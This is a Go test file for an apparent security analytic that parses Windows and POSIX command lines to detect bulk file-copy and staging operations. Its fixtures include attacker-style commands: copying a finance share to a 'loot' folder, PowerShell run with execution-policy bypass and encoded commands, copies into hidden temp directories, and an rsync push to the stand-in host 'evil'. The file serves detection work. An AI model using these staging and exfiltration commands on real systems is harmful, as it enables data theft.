package analytic

import (
	"encoding/base64"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

func TestSplitWindows(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []string
	}{
		{"plain", `robocopy a b /s`, []string{"robocopy", "a", "b", "/s"}},
		{"quoted program keeps backslashes", `"C:\Program Files\x.exe" a`, []string{`C:\Program Files\x.exe`, "a"}},
		{"quoted argument", `x "a b" c`, []string{"x", "a b", "c"}},
		{"escaped quote", `x a\"b`, []string{"x", `a"b`}},
		{"even backslashes before quote", `x "a\\" b`, []string{"x", `a\`, "b"}},
		{"odd backslashes before quote", `x "a\\\"b"`, []string{"x", `a\"b`}},
		{"backslashes not before a quote are literal", `x c:\a\\b\`, []string{"x", `c:\a\\b\`}},
		{"quoted folder with a trailing backslash", `xcopy "C:\src" "C:\Users\Public\x\" /s /e`, []string{"xcopy", `C:\src`, `C:\Users\Public\x\`, "/s", "/e"}},
		{"trailing backslash at the end of the line", `copy a "C:\Temp\"`, []string{"copy", "a", `C:\Temp\`}},
		{"escaped quote inside a quoted argument stays", `x "a\"b c"`, []string{"x", `a"b c`}},
		{"doubled quote inside quotes", `x "a""b"`, []string{"x", `a"b`}},
		{"tabs and runs of spaces", "x \t a   b", []string{"x", "a", "b"}},
		{"empty", "   ", nil},
		{"unterminated quote", `x "a b`, []string{"x", "a b"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, SplitWindows(tt.in)); diff != "" {
				t.Errorf("SplitWindows(%q) (-want +got):\n%s", tt.in, diff)
			}
		})
	}
}

func TestSplitPOSIX(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want [][]string
	}{
		{"words", `cp -r a b`, [][]string{{"cp", "-r", "a", "b"}}},
		{"single quotes", `cp 'a b' c`, [][]string{{"cp", "a b", "c"}}},
		{"double quotes with escapes", `cp "a \"b\" \$x" c`, [][]string{{"cp", `a "b" $x`, "c"}}},
		{"backslash escape", `cp a\ b c`, [][]string{{"cp", "a b", "c"}}},
		{"operators", `cd /x && cp a b; ls | wc -l &`, [][]string{{"cd", "/x"}, {"cp", "a", "b"}, {"ls"}, {"wc", "-l"}}},
		{"adjacent quotes join", `cp a'b'"c" d`, [][]string{{"cp", "abc", "d"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, SplitPOSIX(tt.in)); diff != "" {
				t.Errorf("SplitPOSIX(%q) (-want +got):\n%s", tt.in, diff)
			}
		})
	}
}

func encodePS(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, v := range u {
		b[2*i], b[2*i+1] = byte(v), byte(v>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestCopyToolsParse(t *testing.T) {
	tools, err := NewCopyTools(DefaultList(ListCopyTools))
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		cmdline string // already normalized (lower case)
		windows bool
		want    []CopyOp
	}{
		{"robocopy", `robocopy.exe \\fs01\finance c:\users\public\loot *.xlsx /s /r:0`, true,
			[]CopyOp{{Tool: "robocopy", Sources: []string{`\\fs01\finance`, "*.xlsx"}, Dest: `c:\users\public\loot`, Recursive: true, Wildcard: true}}},
		{"robocopy quoted with trailing backslash", `robocopy "c:\users\bob\my docs" "c:\temp\x y\\" /mir`, true,
			[]CopyOp{{Tool: "robocopy", Sources: []string{`c:\users\bob\my docs`}, Dest: `c:\temp\x y\`, Recursive: true}}},
		{"xcopy", `xcopy c:\users\bob\documents\*.docx c:\windows\temp\d\ /s /y`, true,
			[]CopyOp{{Tool: "xcopy", Sources: []string{`c:\users\bob\documents\*.docx`}, Dest: `c:\windows\temp\d\`, Recursive: true, Wildcard: true}}},
		{"cmd copy with glued switch", `cmd.exe /c copy/y c:\a.txt+c:\b.txt c:\temp\ab.txt`, true,
			[]CopyOp{{Tool: "copy", Sources: []string{`c:\a.txt`, `c:\b.txt`}, Dest: `c:\temp\ab.txt`}}},
		{"cmd quoted script with two commands", `cmd /c "cd /d c:\x && copy /y "a b.txt" c:\users\public\ >nul"`, true,
			[]CopyOp{{Tool: "copy", Sources: []string{"a b.txt"}, Dest: `c:\users\public\`}}},
		{"cmd copy without destination", `cmd /c copy c:\x\*.doc`, true,
			[]CopyOp{{Tool: "copy", Sources: []string{`c:\x\*.doc`}, Wildcard: true}}},
		{"for /r loop", `cmd /c for /r c:\users %f in (*.docx) do copy %f c:\perflogs\d\`, true,
			[]CopyOp{{Tool: "copy", Sources: []string{"%f"}, Dest: `c:\perflogs\d\`, Recursive: true}}},
		{"powershell named parameters", `powershell.exe -nop -ep bypass -command "copy-item -path c:\users\bob\documents -destination c:\users\public\d -recurse"`, true,
			[]CopyOp{{Tool: "copy-item", Sources: []string{`c:\users\bob\documents`}, Dest: `c:\users\public\d`, Recursive: true}}},
		{"powershell positional alias", `powershell -c cp c:\x\*.pdf,c:\y\*.pdf 'c:\programdata\s\'`, true,
			[]CopyOp{{Tool: "cp", Sources: []string{`c:\x\*.pdf`, `c:\y\*.pdf`}, Dest: `c:\programdata\s\`, Wildcard: true}}},
		{"powershell pipeline recursion", `powershell "gci c:\users -recurse -include *.docx | % { copy-item $_.fullname -dest c:\windows\tasks\x }"`, true,
			[]CopyOp{{Tool: "copy-item", Sources: []string{"$_.fullname"}, Dest: `c:\windows\tasks\x`, Recursive: true}}},
		{"powershell encoded", `powershell -enc ` + encodePS(`Copy-Item C:\a C:\Temp\b`), true,
			[]CopyOp{{Tool: "copy-item", Sources: []string{`c:\a`}, Dest: `c:\temp\b`}}},
		{"powershell colon form", `pwsh -command copy-item -path:c:\a -destination:c:\tmp\b`, true,
			[]CopyOp{{Tool: "copy-item", Sources: []string{`c:\a`}, Dest: `c:\tmp\b`}}},
		{"cp -r", `cp -r /home/bob/docs /tmp/.x/`, false,
			[]CopyOp{{Tool: "cp", Sources: []string{"/home/bob/docs"}, Dest: "/tmp/.x/", Recursive: true}}},
		{"cp -t", `cp -t /dev/shm/s a b`, false,
			[]CopyOp{{Tool: "cp", Sources: []string{"a", "b"}, Dest: "/dev/shm/s"}}},
		{"sh -c nesting", `/bin/sh -c "cd /srv && cp -a data '/var/tmp/x y'"`, false,
			[]CopyOp{{Tool: "cp", Sources: []string{"data"}, Dest: "/var/tmp/x y", Recursive: true}}},
		{"scp pull with port", `scp -p -P 2222 bob@fs:/srv/data/* /tmp/d`, false,
			[]CopyOp{{Tool: "scp", Sources: []string{"bob@fs:/srv/data/*"}, Dest: "/tmp/d", Wildcard: true}}},
		{"rsync push to remote", `rsync -avz -e ssh /tmp/d/ bob@evil:/x`, false,
			[]CopyOp{{Tool: "rsync", Sources: []string{"/tmp/d/"}, Dest: "bob@evil:/x", Recursive: true}}},
		{"find -exec", `find /home -name '*.pdf' -exec cp {} /tmp/.p/ ;`, false,
			[]CopyOp{{Tool: "cp", Sources: []string{"/home"}, Dest: "/tmp/.p/", Recursive: true}}},
		{"ditto", `ditto /users/bob/documents /users/shared/.d`, false,
			[]CopyOp{{Tool: "ditto", Sources: []string{"/users/bob/documents"}, Dest: "/users/shared/.d", Recursive: true}}},
		{"ditto -c archives, it does not copy", `ditto -c -k /users/bob/documents /users/shared/d.zip`, false, nil},
		{"rsync --server receiving is an inbound transfer", `rsync --server -vlogdtpre.ilsfxc . /tmp/in/`, false, nil},
		{"scp -t sink is an inbound transfer", `scp -r -t /tmp/in`, false, nil},
		{"env prefix", `env lang=c cp -r /srv /tmp/x`, false,
			[]CopyOp{{Tool: "cp", Sources: []string{"/srv"}, Dest: "/tmp/x", Recursive: true}}},
		{"find piped into xargs cp -t", `bash -c "find ~ -name '*.pdf' | xargs cp -t /tmp/.x"`, false,
			[]CopyOp{{Tool: "cp", Sources: []string{"~"}, Dest: "/tmp/.x", Recursive: true}}},
		{"find with several roots piped into xargs", `find /srv/a /srv/b -type f | xargs -0 cp -t /tmp/.x`, false,
			[]CopyOp{{Tool: "cp", Sources: []string{"/srv/a", "/srv/b"}, Dest: "/tmp/.x", Recursive: true}}},
		{"find output not piped", `find /srv -type f; cp a /tmp/x`, false,
			[]CopyOp{{Tool: "cp", Sources: []string{"a"}, Dest: "/tmp/x", Recursive: true}}},
		{"sudo xargs", `sudo xargs -I {} cp {} /tmp/x`, false,
			[]CopyOp{{Tool: "cp", Sources: []string{"{}"}, Dest: "/tmp/x"}}},
		{"not a copy", `cmd /c dir c:\temp`, true, nil},
		{"cmd copy not top level", `copy a c:\temp\`, true, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := tools.Parse(tt.cmdline, tt.windows)
			if diff := cmp.Diff(tt.want, got, cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("Parse(%q) (-want +got):\n%s", tt.cmdline, diff)
			}
		})
	}
}

func TestIsRemote(t *testing.T) {
	for in, want := range map[string]bool{"bob@h:/x": true, "host:x": true, `c:\x`: false, "/tmp/a:b": false, "rsync://h/m": true, "x": false} {
		if got := IsRemote(in); got != want {
			t.Errorf("IsRemote(%q) = %v, want %v", in, got, want)
		}
	}
}

func FuzzCopyToolsParse(f *testing.F) {
	tools, err := NewCopyTools(DefaultList(ListCopyTools))
	if err != nil {
		f.Fatal(err)
	}
	for _, s := range []string{`cmd /c "copy /y a ""b"" c:\temp\"`, `powershell -enc QQBCAA==`, `robocopy a b /s`,
		`sh -c 'find / -exec cp {} /tmp ;'`, `x "\\\"`, `cmd /c for /r . %f in (*) do cmd /c powershell cp a b`} {
		f.Add(s, true)
		f.Add(s, false)
	}
	f.Fuzz(func(t *testing.T, s string, windows bool) {
		for _, op := range tools.Parse(s, windows) {
			if op.Tool == "" {
				t.Errorf("Parse(%q): op without a tool", s)
			}
		}
		SplitWindows(s)
		SplitPOSIX(s)
		splitPowerShell(s)
		splitCmdScript(s)
	})
}
